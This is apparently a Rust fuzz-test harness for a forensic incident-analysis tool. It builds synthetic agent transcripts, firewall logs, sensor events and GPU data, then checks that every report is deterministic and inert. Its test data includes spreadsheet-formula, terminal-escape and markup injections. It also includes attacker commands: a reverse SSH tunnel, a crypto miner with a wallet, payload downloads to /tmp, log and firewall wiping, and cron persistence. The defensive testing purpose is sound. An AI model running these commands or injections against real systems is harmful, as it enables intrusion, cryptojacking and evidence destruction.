//! A small directory of evidence, from files to everything that is printed of it.

use std::fmt::Write;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicU64;
use std::sync::{Arc, LazyLock};

use coincident::correlate;
use coincident::detect::rules::RuleSet;
use coincident::formats::Sink;
use coincident::intake::{self, CaseFile, Options};
use coincident::report::manifest::Manifest;
use coincident::report::timeline::{Filter, Plan, Pool, Shape, TimelineSink, corrections};
use coincident::report::{DisplayZone, Reading, Screen, case, csv, explain, html, jsonl, sarif, sources, stix, table};
use rayon::{ThreadPool, ThreadPoolBuilder};

use super::bytes::Bytes;
use super::capture;
use super::containers::scratch;
use super::shown::{assert_inert, assert_inert_csv};
use super::wrap;

static RULES: LazyLock<RuleSet> = LazyLock::new(RuleSet::embedded);
static POOLS: LazyLock<[ThreadPool; 2]> =
    LazyLock::new(|| [1, 2].map(|threads| ThreadPoolBuilder::new().num_threads(threads).build().expect("a pool")));

/// Text that an attacker would choose: formulas, escapes of terminals, text that runs backwards or does not show, markup,
/// quotes and ends of lines.
const HOSTILE: [&str; 16] = [
    "",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\u{1b}[2J\u{1b}]0;x\u{7}",
    "\u{202e}gpj.exe\u{2066}",
    "pool\u{200b}\u{feff}.example",
    "</script><b onmouseover=zzq>",
    "\"',;|\r\nF-9999,forged",
    "\u{85}\u{9b}31m",
    "\u{e0041}\u{ad}\u{2028}",
    "\t=1+1",
    "＝1+1",
    "\u{0}\u{8}\u{8}",
    "ssh\\ -R",
];

const COMMANDS: [&str; 16] = [
    "ls -la",
    "ssh -f -N -R 2222:localhost:22 203.0.113.66 -p 443",
    "./xmrig -o 203.0.113.9:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k",
    "nmap -p 1-1000 10.30.0.20",
    "curl -sO http://203.0.113.9:8080/",
    "for p in 22 80 443; do nc -vz 10.30.0.20 $p; done",
    "export A=",
    "echo ",
    "sudo iptables -F; history -c",
    "python3 -c 'import socket; socket.create_connection((\"203.0.113.9\", 3333))'",
    "crontab -l | { cat; echo '* * * * * /tmp/x'; } | crontab -",
    "nvidia-smi --query-gpu=name --format=csv",
    "wget https://mirror.example/a.whl -O /tmp/",
    "cast send 0x52908400098527886E0F7030069857D2E4169EE7 --value 1ether",
    "docker run --gpus all miner.example/x",
    "chmod +x /tmp/x && nohup /tmp/x >/dev/null 2>&1 &",
];

const PEERS: [&str; 6] = ["203.0.113.9", "203.0.113.66", "10.30.0.20", "198.51.100.23", "203.0.113.53", "2001:db8::9"];
const PORTS: [u16; 8] = [443, 3333, 22, 53, 80, 8080, 4444, 14_444];

fn hostile(bytes: &mut Bytes<'_>) -> String {
    let choice = bytes.u8();
    // Mostly nothing, so that the rest is evidence that lines up.
    if choice < 0x60 {
        return String::new();
    }
    let mut text = HOSTILE[usize::from(choice & 15)].to_owned();
    if choice & 0xf0 == 0xf0 {
        text.push_str(&String::from_utf8_lossy(bytes.short()));
    }
    text
}

fn quoted(text: &str) -> String {
    serde_json::to_string(text).expect("a string")
}

/// Second within the hour, moved on by each choice.
fn moment(second: u32, millisecond: u32) -> String {
    format!("2026-11-20T14:{:02}:{:02}.{millisecond:03}Z", second / 60 % 60, second % 60)
}

fn transcript(bytes: &mut Bytes<'_>) -> String {
    let session = quoted(&format!("s{}{}", bytes.u8() & 1, hostile(bytes)));
    let mut lines = String::new();
    let mut second = u32::from(bytes.u8());
    let mut put = |second: u32, id: usize, role: &str, content: &str| {
        let _ = writeln!(
            lines,
            "{{\"parentUuid\":null,\"sessionId\":{session},\"type\":\"{role}\",\"uuid\":\"u{id}\",\"version\":\"2.0.14\",\"cwd\":\"/w\",\"message\":{{\"role\":\
             \"{role}\",\"content\":{content}}},\"timestamp\":\"{}\"}}",
            moment(second, id as u32 * 7 % 1000)
        );
    };
    put(second, 0, "user", &quoted(&format!("Fix the tests. {}", hostile(bytes))));
    for step in 1..=usize::from(bytes.u8() % 6) + 1 {
        let tool = match bytes.u8() {
            0..220 => "Bash".to_owned(),
            _ => hostile(bytes),
        };
        let command = format!("{}{}", bytes.of(&COMMANDS), hostile(bytes));
        let content = format!(
            "[{{\"type\":\"tool_use\",\"id\":\"t{step}\",\"name\":{},\"input\":{{\"command\":{}}}}}]",
            quoted(&tool),
            quoted(&command)
        );
        put(second, step * 2, "assistant", &content);
        second += u32::from(bytes.u8() >> 3);
        let content = format!(
            "[{{\"type\":\"tool_result\",\"tool_use_id\":\"t{step}\",\"content\":{},\"is_error\":false}}]",
            quoted(&hostile(bytes))
        );
        put(second, step * 2 + 1, "user", &content);
    }
    lines
}

fn firewall(bytes: &mut Bytes<'_>) -> String {
    let mut lines = String::new();
    let mut second = u32::from(bytes.u8());
    for line in 0..=u16::from(bytes.u8() & 31) {
        second += u32::from(bytes.u8() >> 4);
        let (peer, port) = (bytes.of(&PEERS[..5]), bytes.of(&PORTS));
        let (hour, rule) = if line & 1 == 0 { (14, "EGRESS-ALLOW") } else { (14, "EGRESS-DENY") };
        let _ = writeln!(
            lines,
            "Nov 20 {hour}:{:02}:{:02} fw{} kernel: {rule}{}: IN=br OUT=wan0 SRC=10.20.0.5 DST={peer} LEN=60 TTL=63 PROTO=TCP \
             SPT={} DPT={port} SYN",
            second / 60 % 60,
            second % 60,
            hostile(bytes).replace(['\n', '\r', ' '], "_"),
            hostile(bytes).replace(['\n', '\r'], " "),
            40_000 + line
        );
    }
    lines
}

fn sensor(bytes: &mut Bytes<'_>) -> String {
    let mut lines = String::new();
    let mut second = u32::from(bytes.u8());
    for line in 0..=u32::from(bytes.u8() & 15) {
        second += u32::from(bytes.u8() >> 4);
        let (kind, detail) = match bytes.u8() % 6 {
            0 => (
                "alert",
                format!(
                    "\"alert\":{{\"signature\":{},\"severity\":1,\"action\":\"allowed\",\"category\":{}}}",
                    quoted(&hostile(bytes)),
                    quoted(&hostile(bytes))
                ),
            ),
            1 => (
                "tls",
                format!(
                    "\"tls\":{{\"sni\":{},\"version\":\"TLS 1.3\",\"ja3\":{{\"hash\":{}}}}}",
                    quoted(&hostile(bytes)),
                    quoted(&hostile(bytes))
                ),
            ),
            2 => (
                "dns",
                format!(
                    "\"dns\":{{\"type\":\"query\",\"rrname\":{},\"rrtype\":\"A\",\"id\":1}}",
                    quoted(&format!("pool.supportxmr.com{}", hostile(bytes)))
                ),
            ),
            3 => (
                "http",
                format!(
                    "\"http\":{{\"hostname\":{},\"url\":{},\"http_user_agent\":{},\"http_method\":\"GET\",\"status\":200}}",
                    quoted(&hostile(bytes)),
                    quoted(&hostile(bytes)),
                    quoted(&hostile(bytes))
                ),
            ),
            4 => (
                "ssh",
                format!(
                    "\"ssh\":{{\"client\":{{\"software_version\":{},\"proto_version\":\"2.0\"}},\"server\":{{\"software_version\":\"OpenSSH\"}}}}",
                    quoted(&hostile(bytes))
                ),
            ),
            _ => (
                "flow",
                format!(
                    "\"flow\":{{\"pkts_toserver\":{},\"bytes_toserver\":{},\"start\":\"{}\",\"state\":\"closed\"}}",
                    bytes.u8(),
                    bytes.u32(),
                    moment(second, 0)
                ),
            ),
        };
        let _ = writeln!(
            lines,
            "{{\"timestamp\":\"{}\",\"event_type\":\"{kind}\",\"src_ip\":\"10.20.0.5\",\"src_port\":{},\"dest_ip\":\"{}\",\"dest_port\":{},\
             \"proto\":\"TCP\",\"host\":{},{detail}}}",
            moment(second, line),
            40_000 + line,
            bytes.of(&PEERS),
            bytes.of(&PORTS),
            quoted(&hostile(bytes))
        );
    }
    lines
}

fn gpu(bytes: &mut Bytes<'_>) -> String {
    let choice = bytes.u8();
    let mut lines = match choice & 1 {
        0 => "timestamp, index, uuid, name, utilization.gpu [%], memory.used [MiB], power.draw [W]\n".to_owned(),
        _ => "timestamp, gpu_uuid, pid, process_name, used_gpu_memory [MiB]\n".to_owned(),
    };
    let name = hostile(bytes).replace(['\n', '\r', ','], " ");
    for sample in 0..u32::from(bytes.u8()) {
        let (busy, second) = (u32::from(bytes.u8()), sample * 2);
        let at = format!("2026/11/20 14:{:02}:{:02}.{:03}", second / 60 % 60, second % 60, sample % 1000);
        let _ = match choice & 1 {
            0 => writeln!(lines, "{at}, 0, GPU-5f0c1a9e, {name}, {} %, {} MiB, {busy}.5 W", busy % 101, busy * 300),
            _ => writeln!(lines, "{at}, GPU-5f0c1a9e, {}, /tmp/{name}{}, {busy} MiB", busy & 7, busy & 3),
        };
    }
    lines
}

const CASE: &str = "[[host]]\nname = \"train-07\"\naddresses = [\"10.20.0.5\"]\nagent = true\n[egress]\nallow = [\"10.0.0.0/8\"]\n[gpu]\n\
                    allocated = [\"python3\"]\nprice_per_gpu_hour = 3.5\n[intel]\naddresses = [\"203.0.113.66\"]\n";

/// A recorded incident with findings of its own.
const RECORDED: [(&str, &[u8]); 3] = [
    ("capture.pcap", include_bytes!("../../testdata/incidents/planted-delay/evidence/capture.pcap")),
    ("ep-001.jsonl", include_bytes!("../../testdata/incidents/planted-delay/evidence/transcripts/run-a/ep-001.jsonl")),
    ("ep-002.jsonl", include_bytes!("../../testdata/incidents/planted-delay/evidence/transcripts/run-a/ep-002.jsonl")),
];

/// The recorded incident, with text of the attacker's choice behind every command.
fn recorded(bytes: &mut Bytes<'_>) -> Vec<(String, Vec<u8>)> {
    let said = hostile(bytes);
    let quoted = quoted(&format!(" #{said}"));
    let comment = quoted.trim_start_matches('"').strip_suffix('"').unwrap_or_default();
    let with = |content: &[u8]| match std::str::from_utf8(content) {
        Ok(text) => {
            let end = "\"}}],\"stop_reason\"";
            text.replace(end, &format!("{comment}{end}")).into_bytes()
        }
        Err(_) => content.to_vec(),
    };
    RECORDED.iter().map(|(name, content)| ((*name).to_owned(), with(content))).collect()
}

/// The files that the bytes stand for, and the case. Files have names of the attacker's choice, too.
pub(crate) fn evidence(data: &[u8], folder: &Path) -> (Vec<PathBuf>, CaseFile) {
    let mut bytes = Bytes::new(data);
    let choice = bytes.u8();
    let mut case = CaseFile::default();
    if choice & 1 != 0 {
        case = CaseFile::parse(CASE, "case.toml").expect("a case file");
    }
    let mut files = if choice & 0xc0 == 0xc0 { recorded(&mut bytes) } else { Vec::new() };
    for _ in 0..=(choice >> 1) % 3 {
        let (name, content) = match bytes.u8() % 8 {
            0 => ("any.log", bytes.long().to_vec()),
            1 | 2 => ("ep.jsonl", transcript(&mut bytes).into_bytes()),
            3 => ("firewall.log", firewall(&mut bytes).into_bytes()),
            4 => ("eve.json", sensor(&mut bytes).into_bytes()),
            5 => ("a.pcap", capture::built(bytes.long()).1),
            6 => ("b.pcap", wrap::capture(bytes.long()).unwrap_or_default()),
            _ => ("gpu.csv", gpu(&mut bytes).into_bytes()),
        };
        let before = if choice & 0x10 != 0 { hostile(&mut bytes).replace(['/', '\0'], "_") } else { String::new() };
        files.push((format!("{}{}{name}", before.chars().take(40).collect::<String>(), files.len()), content));
    }
    let put = |(name, content): (String, Vec<u8>)| {
        let path = folder.join(name);
        fs::write(&path, content).expect("a file");
        path
    };
    let paths: Vec<PathBuf> = files.into_iter().map(put).collect();
    // A folder alone: its files are then shown by their names in it.
    (if choice & 0x20 != 0 { vec![folder.to_owned()] } else { paths }, case)
}

/// Everything that is printed, by what it is.
fn printed(paths: &[PathBuf], case_file: &CaseFile) -> Vec<(String, Vec<u8>)> {
    let options = Options { case: case_file.clone(), ..Options::default() };
    let intake = intake::take_in(paths, &options);
    let analysis = correlate::analyze(&intake, &options, &RULES);
    let reading = Reading { walk_errors: intake.walk_errors.clone() };
    let mut all = Vec::new();
    let mut put = |name: &str, bytes: Vec<u8>| all.push((name.to_owned(), bytes));
    for width in [None, Some(80)] {
        let screen = Screen { color: false, width };
        let shown = table::TableOptions { screen, verbose: width.is_none(), ..table::TableOptions::default() };
        put("table", table::render(&analysis, &reading, &shown).into_bytes());
    }
    for (name, parts) in csv::all(&analysis).expect("tables") {
        parts.for_each(|part| put(&format!("{name}.csv"), part.csv().expect("a table")));
    }
    let lines = jsonl::lines(&analysis, &reading);
    put("lines", jsonl::render(&lines).into_bytes());
    put("html", html::render(&analysis, &lines, DisplayZone::default()).into_bytes());
    put("sarif", sarif::render(&analysis, &reading).into_bytes());
    put("stix", stix::render(&analysis).into_bytes());
    let manifest = Manifest::new(&analysis.sources, &RULES, vec!["analyze".to_owned()]);
    put("manifest", manifest.to_json().into_bytes());
    put("case", case::render(&analysis, &reading, &manifest).into_bytes());
    for id in explain::ids(&lines).into_iter().take(20) {
        let screen = Screen { color: false, width: Some(100) };
        put("explain", explain::render(&lines, id, screen).expect("it is among them").into_bytes());
    }
    put("probe", sources::probe_table(&intake.sources, DisplayZone::default(), Screen::default(), true).into_bytes());
    put("probe.csv", sources::probe_csv(&intake.sources));
    put("clocks.csv", sources::clocks_csv(analysis.clocks.clone(), analysis.sources.clone()).expect("a table"));
    put("clocks", sources::clocks_table(&analysis.clocks, &analysis.sources, Screen::default()).into_bytes());
    for (name, shape) in
        [("timeline.csv", Shape::Csv), ("timeline", Shape::Jsonl), ("timesketch.csv", Shape::TimesketchCsv)]
    {
        let plan = Arc::new(Plan {
            sources: intake.sources.clone(),
            corrections: corrections(&intake.sources, &analysis.clocks),
            filter: Filter::default(),
            condition: None,
            columns: None,
            shape,
            pool: Pool::default(),
            show_secrets: false,
            left_out: AtomicU64::default(),
            masked: AtomicU64::default(),
        });
        plan.add_steps(&intake.episodes, &intake.steps);
        let make = |source| Box::new(TimelineSink::new(Arc::clone(&plan), source)) as Box<dyn Sink>;
        for sink in intake::replay(&intake, &make) {
            if let Ok(sink) = sink.into_any().downcast::<TimelineSink>() {
                sink.close();
            }
        }
        let mut rows = Vec::new();
        plan.write(&mut rows).expect("memory");
        put(name, rows);
    }
    all
}

/// Evidence of up to three files through intake, correlation and every report: the same bytes at one thread and at two, whatever
/// the order in which the files are named; and nothing in them that acts on who looks at them.
pub fn whole(data: &[u8]) {
    let folder = scratch("whole").join("case");
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir(&folder).expect("a folder");
    let (mut paths, case_file) = evidence(data, &folder);
    let [one, two] = &*POOLS;
    let all = one.install(|| printed(&paths, &case_file));
    paths.reverse();
    let again = two.install(|| printed(&paths, &case_file));
    for ((name, bytes), (_, others)) in all.iter().zip(&again) {
        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
        if bytes != others {
            let other = String::from_utf8_lossy(others);
            let apart = text.lines().zip(other.lines()).find(|(a, b)| a != b);
            panic!("{name} differs with threads or order: {apart:?}");
        }
        match name.as_str() {
            name if name.ends_with(".csv") => assert_inert_csv(name, bytes),
            name => assert_inert(name, &text),
        }
        match name.as_str() {
            "html" => assert!(!text.contains("<b onmouseover"), "markup of the evidence in the page"),
            "sarif" | "stix" | "case" | "manifest" => {
                let _: serde_json::Value = serde_json::from_str(&text).expect("JSON");
            }
            "lines" | "timeline" => {
                for line in text.lines() {
                    let _: serde_json::Value = serde_json::from_str(line).expect("JSON");
                }
            }
            _ => {}
        }
    }
    assert_eq!(all.len(), again.len());
}
